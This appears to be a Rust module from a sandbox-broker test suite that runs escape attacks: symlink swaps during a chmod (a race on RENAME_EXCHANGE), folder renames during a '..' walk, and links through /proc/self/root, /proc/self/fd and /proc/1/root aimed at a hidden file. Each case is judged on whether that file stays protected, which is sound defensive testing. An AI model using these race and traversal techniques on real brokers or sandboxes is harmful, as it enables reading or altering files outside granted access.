//! B1, B6, P1 against the broker: symbolic links and folders that change while it walks.

use std::fs;
use std::io;
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use super::{ROW, alone, bait, said, show_size, size_of};
use crate::attack::{Attack, Judge};
use crate::attacks::kernel::sys;
use crate::attacks::proof;
use crate::attacks::raw::c;
use crate::files;
use crate::stage::Stage;

pub(super) const EXCHANGED: Attack = Attack {
    id: "B1",
    name: "link-exchanged-while-walked",
    what: "changes the mode of a hidden file by a link that leads to a granted one while it is looked at",
    prepare: mode,
    attack: exchanged,
    fault: "continue",
    ..ROW
};

pub(super) const UPWARDS: Attack = Attack {
    id: "P1",
    name: "dot-dot-race-brokered",
    what: "learns the size of a hidden file by a walk upwards whose folders are moved meanwhile",
    prepare: |stage| {
        alone(stage);
        stage.race();
        Ok(files::not_printed(said(bait(stage)?.size)))
    },
    attack: upwards,
    ..ROW
};

pub(super) const FOLLOWED: Attack = Attack {
    id: "B6",
    name: "link-followed-with-other-rights",
    what: "lets the broker follow links to a hidden file: its own descriptors, folders and root among them",
    prepare: |stage| {
        alone(stage);
        let bait = bait(stage)?;
        stage.path_arg(&bait.hidden);
        Ok(files::any(vec![files::untouched(&bait.hidden)?, files::not_printed(said(bait.size))]))
    },
    attack: followed,
    ..ROW
};

fn mode(stage: &mut Stage) -> io::Result<Judge> {
    alone(stage);
    stage.race();
    let bait = bait(stage)?;
    symlink(&bait.open, stage.work.join("one"))?;
    symlink(&bait.hidden, stage.work.join("other"))?;
    files::untouched(&bait.hidden)
}

fn exchanged(args: &[String]) -> io::Result<()> {
    let (one, other) = (c("one"), c("other"));
    meanwhile(
        args,
        || {
            let here = libc::AT_FDCWD;
            drop(sys!(SYS_renameat2, here, &one, here, &other, libc::RENAME_EXCHANGE));
        },
        || {
            sys!(SYS_chmod, &one, 0o640)?;
            Err(io::Error::other("perhaps"))
        },
    )
}

fn upwards(args: &[String]) -> io::Result<()> {
    fs::create_dir_all("deep/a/b/c")?;
    let path = c("deep/a/b/c/../../../../../host/bait");
    meanwhile(
        args,
        || {
            drop(fs::rename("deep/a/b/c", "c"));
            drop(fs::rename("c", "deep/a/b/c"));
        },
        || show_size(size_of(path.as_ptr().cast())?),
    )
}

/// Tries until one attempt succeeds or the time is over, while a thread keeps changing something.
fn meanwhile(
    args: &[String],
    change: impl Fn() + Sync,
    attempt: impl Fn() -> io::Result<()>,
) -> io::Result<()> {
    let end = Instant::now() + Duration::from_millis(proof::number(args, 0)?);
    let stop = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                change();
            }
        });
        let mut last = Err(io::Error::other("no time"));
        while last.is_err() && Instant::now() < end {
            last = attempt();
        }
        stop.store(true, Ordering::Relaxed);
        last
    })
}

/// Ways to the file that are other ways for whoever follows them.
fn followed(args: &[String]) -> io::Result<()> {
    let hidden = proof::arg(args, 0)?;
    let mut ways = vec![
        hidden.to_owned(),
        format!("/proc/self/root{hidden}"),
        format!("/proc/thread-self/root{hidden}"),
    ];
    ways.extend((0..64).map(|fd| format!("/proc/self/fd/{fd}{hidden}")));
    ways.push("/proc/self/cwd/../host/bait".to_owned());
    ways.push(format!("/proc/1/root{hidden}"));
    let mut last = Err(io::Error::other("no way"));
    for (number, way) in (0..).zip(ways) {
        let link = format!("way{number}");
        symlink(&way, &link)?;
        last = tried(&link).or(last);
    }
    last
}

fn tried(link: &str) -> io::Result<()> {
    let path = c(link);
    drop(sys!(SYS_chmod, &path, 0o640));
    drop(fs::File::options().append(true).open(Path::new(link)));
    show_size(size_of(path.as_ptr().cast())?)
}
